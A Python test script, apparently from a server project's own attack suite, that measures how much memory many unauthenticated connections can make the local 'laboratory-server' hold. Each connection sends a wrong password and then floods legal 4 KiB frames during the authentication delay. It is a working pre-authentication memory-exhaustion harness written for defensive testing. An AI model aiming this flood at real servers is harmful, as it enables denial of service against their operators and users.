#!/usr/bin/env python3
"""How much can an unauthenticated connection make the server hold with frames that are all within
the 4 KiB pre-authentication limit? Each of N connections (each its own /24) sends its key exchange,
a wrong password and at once FRAMES legal 4,096-byte frames; during the wrong-password delay the
server reads nothing, but what was already read stays buffered. Reports the server's RSS peak per
connection.

    PYTHONPATH=Clients/python/src python3 scripts/attacks/preauth_buffers.py .build/debug/laboratory-server \
        [--connections 250] [--frames 64]
"""

import argparse
import asyncio
import os
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from labattack import Client, Server, describe  # noqa: E402
from laboratory_client import messages  # noqa: E402
from laboratory_client.hello import ServerHello  # noqa: E402


async def attacker(port: int, source: str, frames: int, ready: list) -> str:
    client = await Client.connect(port, source)
    try:
        first = await client.hello_or_closing(20)
        if not isinstance(first, ServerHello):
            return describe(first)
        client.writer.write(client.key_exchange())
        await client.message(20)
        frame = struct.pack(">I", 4096) + os.urandom(4096)
        client.writer.write(client.sealed(messages.password("wrong")) + frame * frames)
        ready.append(time.monotonic())
        return describe(await client.message(20))
    except Exception as error:
        return type(error).__name__
    finally:
        client.abort()


async def main(args) -> None:
    server = Server(args.server, "--max-startups", "400:30:500")
    try:
        await asyncio.sleep(1)
        before, _ = server.rss()
        ready: list = []
        tasks = [asyncio.create_task(attacker(server.port, f"127.120.{i}.1", args.frames, ready))
                 for i in range(args.connections)]
        samples = []
        while not all(t.done() for t in tasks):
            samples.append(server.rss()[0])
            await asyncio.sleep(0.05)
        results = await asyncio.gather(*tasks)
        _, peak = server.rss()
        tally: dict[str, int] = {}
        for r in results:
            tally[r] = tally.get(r, 0) + 1
        mib = lambda v: f"{v / 1048576:.1f} MiB"
        print(f"{args.connections} connections x {args.frames} frames of 4 KiB during the delay: {tally}")
        print(f"RSS before {mib(before)}, peak {mib(peak)}: +{mib(peak - before)}, "
              f"{(peak - before) / args.connections / 1024:.0f} KiB per connection "
              f"(sent {args.frames * 4100 / 1024:.0f} KiB each)")
    finally:
        server.stop()


parser = argparse.ArgumentParser()
parser.add_argument("server")
parser.add_argument("--connections", type=int, default=250)
parser.add_argument("--frames", type=int, default=64)
asyncio.run(main(parser.parse_args()))
